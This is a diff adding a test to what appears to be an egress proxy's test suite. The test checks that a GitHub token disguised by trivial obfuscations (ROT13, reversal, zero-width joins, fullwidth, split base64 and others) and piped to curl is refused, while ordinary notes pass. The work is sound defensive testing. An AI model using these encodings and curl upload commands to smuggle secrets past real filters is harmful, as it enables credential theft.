@@ -168,6 +168,38 @@ def test_a_credential_compressed_before_it_is_sent_is_refused(web, origin):
     assert len(arrived) == len(packers)  # the ordinary ones only
 
 
+def test_a_credential_disguised_by_a_trivial_obfuscation_is_refused(web, origin):
+    """Reversed, ROT13, spaced out, zero-width-joined, fullwidth, octal, char codes, UTF-16, wrapped base64: refused;
+    the same treatment of an ordinary note arrives."""
+    obfuscations = {
+        "reversed": "d[::-1]",
+        "rot13": "codecs.encode(d, 'rot13')",
+        "spaced": "' '.join(d)",
+        "zero-width": "'\\u200b'.join(d)",
+        "fullwidth": "''.join(chr(ord(c) + 0xfee0) if '!' <= c <= '~' else c for c in d)",
+        "octal escapes": "''.join('\\\\%03o' % ord(c) for c in d)",
+        "char codes": "str([ord(c) for c in d])",
+        "quoted-printable": "''.join('=%02X' % ord(c) for c in d)",
+    }
+    raw = {
+        "utf-16": "d.encode('utf-16-le')",
+        "base64 in lines": "b'\\n'.join(base64.b64encode(d.encode())[i:i + 12] for i in range(0, 80, 12))",
+    }
+    cases = {name: f"({code}).encode('utf-8')" for name, code in obfuscations.items()} | raw
+    for name, encoder in cases.items():
+        for content, expected in ((f"note {GITHUB_TOKEN}", "403"), ("an ordinary note about the weather", "200")):
+            script = (f"import base64, codecs, sys; d = {content!r}; "
+                      f"sys.stdout.buffer.write({encoder})")
+            out = web.exec(["sh", "-c", f"python3 -c {shlex.quote(script)} | curl -s -o /dev/null -w '%{{http_code}}' "
+                                        "--max-time 10 --data-binary @- https://allowed.test/upload-plain"]).stdout.decode()
+            assert out == expected, (name, content, out)
+            if expected == "403":
+                record = last_decision(web, host="allowed.test", method="POST")
+                assert (record["decision"], record["rule"]) == ("deny", "credential"), (name, record)
+    arrived = [r for r in origin.requests() if r.get("path") == "/upload-plain"]
+    assert len(arrived) == len(cases)  # the ordinary ones only
+
+
 def test_a_body_past_what_inspection_reads_is_refused_before_it_is_read(web, origin):
     big = web.exec(["sh", "-c", "head -c 100M /dev/zero > /tmp/big && curl -s -o /dev/null -w '%{http_code}' "
                                 "--max-time 60 --data-binary @/tmp/big https://allowed.test/upload-big; "
